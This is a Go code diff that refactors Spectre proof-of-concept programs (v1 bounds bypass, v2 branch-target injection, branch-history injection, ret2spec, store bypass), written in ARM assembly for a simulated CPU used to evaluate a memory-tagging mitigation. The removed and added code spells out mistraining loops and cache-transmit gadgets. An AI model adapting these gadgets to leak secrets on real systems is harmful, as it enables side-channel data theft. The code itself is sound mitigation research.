@@ -5,7 +5,6 @@ import (
 	"strings"
 
 	"specasan/internal/asm"
-	"specasan/internal/cpu"
 )
 
 // transmitSeq is the classic USE+TRANSMIT tail: encode the secret in X5 into
@@ -15,6 +14,11 @@ const transmitSeq = `
     AND X6, X6, #4032
     LDR X8, [X22, X6]
 `
+
+// bodyCacheTransmit is the classic gadget body: ACCESS the secret through
+// the trigger's X26 pointer, then transmitSeq. The Spectre rows use it, and
+// the SCC rows' cache-transmit variants compare against it.
+const bodyCacheTransmit = "    LDR  X5, [X26]" + transmitSeq
 
 // pocDataSection places the shared PoC regions: the victim array (the
 // secret is planted immediately past its bounds by setupCommon) and the
@@ -62,116 +66,14 @@ func expand(tmpl string, repl map[string]string) string {
 	return out
 }
 
-// SpectrePHT builds the Spectre-v1 bounds-check-bypass PoC of Listing 1:
-// a mistrained conditional branch lets a speculative load index past
-// array1's bounds into the secret, which carries a different allocation tag.
-func SpectrePHT() *Attack {
-	build := func() (*Scenario, error) {
-		prog, err := asm.Assemble(expand(`
-_start:
-    ADR  X20, size_slot
-    ADR  X21, array1
-    LDG  X21, [X21]        // victim array pointer, key = TagVictim
-    ADR  X22, probe
-    MOV  X27, #@OOB@       // OOB index: &array1[idx] == secret
-    MOV  X28, #8           // in-bounds training index
-@WARM@    MOV  X12, #17
-loop:
-    ADR  X9, size_slot
-    DC   CIVAC, X9         // keep the bounds check slow every iteration
-    DSB
-    CMP  X12, #1
-    CSEL X0, X27, X28, EQ  // last iteration goes out of bounds (branch-free
-                           // selection keeps the branch history identical)
-    BL   victim
-    SUB  X12, X12, #1
-    CBNZ X12, loop
-    SVC  #0
-
-victim:
-    BTI
-    LDR  X1, [X20]         // ARRAY1_SIZE: long-latency after the flush
-    CMP  X0, X1
-    B.HS vdone             // mistrained bounds check
-    LDR  X5, [X21, X0]     // ACCESS: array1[X]
-@TRANSMIT@
-vdone:
-    RET
-
-    .org 0x120000
-size_slot:
-    .word @SIZE@
-@DATA@
-`, map[string]string{
-			"OOB":      fmt.Sprint(SecretAddr - Array1Addr),
-			"SIZE":     fmt.Sprint(Array1Size / 8),
-			"TRANSMIT": transmitSeq,
-			"DATA":     pocDataSection,
-		}))
-		if err != nil {
-			return nil, err
-		}
-		return &Scenario{Prog: prog, Setup: setupCommon}, nil
-	}
-	return &Attack{
-		Name:  "PHT (Spectre v1)",
-		Class: "Spectre",
-		Variants: []Variant{
-			{Name: "bounds-check-bypass", Build: build},
-		},
-	}
-}
-
-// btbTemplate is the Spectre-v2 style branch-target-injection body: one
-// indirect call site is trained into a non-BTI gadget for several
-// iterations; on the final iteration the victim publishes the legitimate
-// target and the attacker-steered argument, but the predictor still fires
-// into the gadget while the (flushed) function-pointer load is outstanding.
-// Branch-free CSEL selection keeps every iteration's control flow identical.
-const btbTemplate = `
-_start:
-    ADR  X21, array1
-    LDG  X21, [X21]
-    ADR  X22, probe
-@WARM@    ADR  X19, fnslot
-    ADR  X24, gadget
-    ADR  X25, legit
-    MOV  X23, X21          // benign gadget argument during training
-@SECRETPTR@    MOV  X12, #7
-loop:
-    CMP  X12, #1
-    CSEL X9, X25, X24, EQ  // final iteration: the legitimate target
-    STR  X9, [X19]
-    CSEL X26, X18, X23, EQ // final iteration: the attacker-steered pointer
-    ADR  X9, fnslot
-    DC   CIVAC, X9         // the function-pointer load misses every time
-    DSB
-@HIST@    LDR  X9, [X19]
-    BLR  X9                // trained: speculates into the gadget
-    SUB  X12, X12, #1
-    CBNZ X12, loop
-    SVC  #0
-
-gadget:                    // deliberately NOT a BTI landing pad
-    LDR  X5, [X26]         // ACCESS via the attacker-steered pointer
-@TRANSMIT@
-    RET
-legit:
-    BTI
-    RET
-@HISTFNS@
-    .org 0x120000
-fnslot:
-    .word 0
-@DATA@
-`
-
 // bhbTemplate is the branch-history-injection body: the same call site goes
 // through three phases — gadget target under history A, legitimate target
 // under history B, then the attack replays history A while the BTB holds the
 // legitimate target. Only the history-keyed indirect predictor still holds
 // the gadget. X12 counts down from 13: phase A is X12 >= 8, phase B is
-// 7..2, the attack iteration (X12 == 1) replays history A.
+// 7..2, the attack iteration (X12 == 1) replays history A. hist_a and
+// hist_b are two branch-hop chains with distinct pc/target patterns; each
+// fully determines the 8-entry BHB when fetched.
 const bhbTemplate = `
 _start:
     ADR  X21, array1
@@ -215,16 +117,7 @@ gadget:
 legit:
     BTI
     RET
-@HISTFNS@
-    .org 0x120000
-fnslot:
-    .word 0
-@DATA@
-`
 
-// histFns are two branch-hop chains with distinct pc/target patterns; each
-// fully determines the 8-entry BHB when fetched.
-const histFns = `
 hist_a:
     BTI
     B ha1
@@ -266,23 +159,22 @@ hb8:
     B hb9
 hb9:
     RET
+
+    .org 0x120000
+fnslot:
+    .word 0
+@DATA@
 `
 
-func buildIndirect(foreign, bhb bool) func() (*Scenario, error) {
+// buildBHB builds the hand-written BHB variant. Its three-phase history loop
+// has no trigger template.
+func buildBHB(foreign bool) func() (*Scenario, error) {
 	return func() (*Scenario, error) {
-		repl := map[string]string{
+		prog, err := asm.Assemble(expand(bhbTemplate, map[string]string{
 			"SECRETPTR": secretPtrTo18(foreign),
 			"TRANSMIT":  transmitSeq,
 			"DATA":      pocDataSection,
-			"HIST":      "",
-			"HISTFNS":   "",
-		}
-		tmpl := btbTemplate
-		if bhb {
-			tmpl = bhbTemplate
-			repl["HISTFNS"] = histFns
-		}
-		prog, err := asm.Assemble(expand(tmpl, repl))
+		}))
 		if err != nil {
 			return nil, err
 		}
@@ -300,17 +192,40 @@ func secretPtrTo18(foreign bool) string {
 	return fmt.Sprintf("    MOV X18, #%d\n    LDG X18, [X18]\n", SecretAddr)
 }
 
-// SpectreBTB builds the Spectre-v2 branch-target-injection PoC. The
-// "matching-key" variant demonstrates the partial mitigation the paper
-// describes for SpecASan: a gadget whose load carries the victim's own valid
-// tag cannot be refused by a tag check, only by CFI.
+// pht, btb and rsb are Table 1's recipes on the pointer triggers: Spectre
+// v1's 17-iteration loop through the victim-array pointer (its
+// out-of-bounds access always violates tags), Spectre v2's call site
+// trained 7 times, and ret2spec with the classic body.
+func pht(body string) Gadget      { return Gadget{TriggerPHT, RelForeign, 17, body} }
+func btb(rel, body string) Gadget { return Gadget{TriggerBTB, rel, 7, body} }
+func rsb(rel string) Gadget       { return Gadget{TriggerRSB, rel, 0, bodyCacheTransmit} }
+
+// SpectrePHT is the Spectre-v1 bounds-check-bypass PoC of Listing 1: a
+// mistrained conditional branch lets a speculative load index past array1's
+// bounds into the secret, which carries a different allocation tag.
+func SpectrePHT() *Attack {
+	return &Attack{
+		Name:     "PHT (Spectre v1)",
+		Class:    "Spectre",
+		Variants: []Variant{pht(bodyCacheTransmit).Variant("bounds-check-bypass")},
+	}
+}
+
+// SpectreBTB is the Spectre-v2 branch-target-injection PoC: one indirect
+// call site is trained into a non-BTI gadget; on the final iteration the
+// victim publishes the legitimate target and the attacker-steered pointer,
+// but the predictor still fires into the gadget while the (flushed)
+// function-pointer load is outstanding. The "matching-key" variant
+// demonstrates the partial mitigation the paper describes for SpecASan: a
+// gadget whose load carries the victim's own valid tag cannot be refused by
+// a tag check, only by CFI.
 func SpectreBTB() *Attack {
 	return &Attack{
 		Name:  "BTB (Spectre v2)",
 		Class: "Spectre",
 		Variants: []Variant{
-			{Name: "foreign-key-gadget", Build: buildIndirect(true, false)},
-			{Name: "matching-key-gadget", Build: buildIndirect(false, false)},
+			btb(RelForeign, bodyCacheTransmit).Variant("foreign-key-gadget"),
+			btb(RelMatching, bodyCacheTransmit).Variant("matching-key-gadget"),
 		},
 	}
 }
@@ -324,114 +239,39 @@ func SpectreBHB() *Attack {
 		Name:  "BHB (BHI)",
 		Class: "Spectre",
 		Variants: []Variant{
-			{Name: "foreign-key-gadget", Build: buildIndirect(true, true)},
-			{Name: "matching-key-gadget", Build: buildIndirect(false, true)},
+			{Name: "foreign-key-gadget", Build: buildBHB(true)},
+			{Name: "matching-key-gadget", Build: buildBHB(false)},
 		},
 	}
 }
 
-// SpectreRSB builds the ret2spec PoC: the attacker stuffs the return stack
+// SpectreRSB is the ret2spec PoC: the attacker stuffs the return stack
 // buffer with a gadget address (modelling cross-context RSB pollution); the
 // victim's return-address load is slow, so the RET speculates into the
 // gadget until the real target resolves.
 func SpectreRSB() *Attack {
-	build := func(foreign bool) func() (*Scenario, error) {
-		return func() (*Scenario, error) {
-			prog, err := asm.Assemble(expand(`
-_start:
-    ADR  X22, probe
-@WARM@@SECRETPTR@    ADR  X9, lrslot
-    LDR  X30, [X9]         // cold miss: the return target resolves slowly
-    RET                    // RSB (attacker-stuffed) predicts the gadget
-
-gadget:                    // not a BTI landing pad; disagrees with the
-    LDR  X5, [X26]         // shadow stack
-@TRANSMIT@
-    RET
-real_continue:
-    BTI
-    SVC  #0
-
-    .org 0x120000
-lrslot:
-    .word real_continue
-@DATA@
-`, map[string]string{
-				"SECRETPTR": secretPtrSetup(foreign),
-				"TRANSMIT":  transmitSeq,
-				"DATA":      pocDataSection,
-			}))
-			if err != nil {
-				return nil, err
-			}
-			gadget, err := prog.LookupLabel("gadget")
-			if err != nil {
-				return nil, err
-			}
-			return &Scenario{Prog: prog, Setup: func(m *cpu.Machine) {
-				setupCommon(m)
-				m.Core(0).Predictor().PoisonRSB(gadget, 4)
-			}}, nil
-		}
-	}
 	return &Attack{
 		Name:  "RSB (Spectre v5)",
 		Class: "Spectre",
 		Variants: []Variant{
-			{Name: "foreign-key-gadget", Build: build(true)},
-			{Name: "matching-key-gadget", Build: build(false)},
+			rsb(RelForeign).Variant("foreign-key-gadget"),
+			rsb(RelMatching).Variant("matching-key-gadget"),
 		},
 	}
 }
 
-// SpectreSTL builds the Spectre-v4 speculative-store-bypass PoC: a store
-// whose address resolves slowly is bypassed by a younger load to the same
+// SpectreSTL is the Spectre-v4 speculative-store-bypass PoC: a store whose
+// address resolves slowly is bypassed by a younger load to the same
 // location, which transiently reads the stale value — here the secret left
 // behind in a freed-and-reallocated slot (the tag was refreshed on realloc,
 // so the committed-path pointer is valid while the *stale data* is secret).
+// The trigger leaves the stale read in X5, so the body is the transmit alone.
 func SpectreSTL() *Attack {
-	build := func() (*Scenario, error) {
-		prog, err := asm.Assemble(expand(`
-_start:
-    ADR  X22, probe
-    MOV  X28, #@SLOT@      // the reallocated slot (stale secret inside)
-    LDG  X28, [X28]        // valid pointer: key matches the fresh tag
-    LDR  X14, [X28]        // slot recently used: cached
-    DSB
-    ADR  X9, depslot
-    LDR  X1, [X9]          // cold miss: delays the store's address
-    AND  X1, X1, #7
-    ADD  X2, X28, X1       // store address depends on the slow load
-    STR  XZR, [X2]         // initialise the new allocation (clears secret)
-    LDR  X3, [X28]         // MDU speculates no conflict: reads STALE secret
-    MOV  X5, X3
-@TRANSMIT@
-    SVC  #0
-
-    .org 0x120000
-depslot:
-    .word 0
-@DATA@
-`, map[string]string{
-			"SLOT":     fmt.Sprint(SecretAddr),
-			"TRANSMIT": transmitSeq,
-			"DATA":     pocDataSection,
-		}))
-		if err != nil {
-			return nil, err
-		}
-		return &Scenario{Prog: prog, Setup: func(m *cpu.Machine) {
-			setupCommon(m)
-			// free()+realloc(): the slot's granules get a fresh tag while
-			// the stale secret bytes are still inside.
-			m.Img.Tags.SetRange(SecretAddr, SecretSize, 0xc)
-		}}, nil
-	}
 	return &Attack{
 		Name:  "STL (Spectre v4)",
 		Class: "Spectre",
 		Variants: []Variant{
-			{Name: "store-bypass-stale-read", Build: build},
+			Gadget{Trigger: TriggerSTL, Relation: RelStale, Body: transmitSeq}.Variant("store-bypass-stale-read"),
 		},
 	}
 }
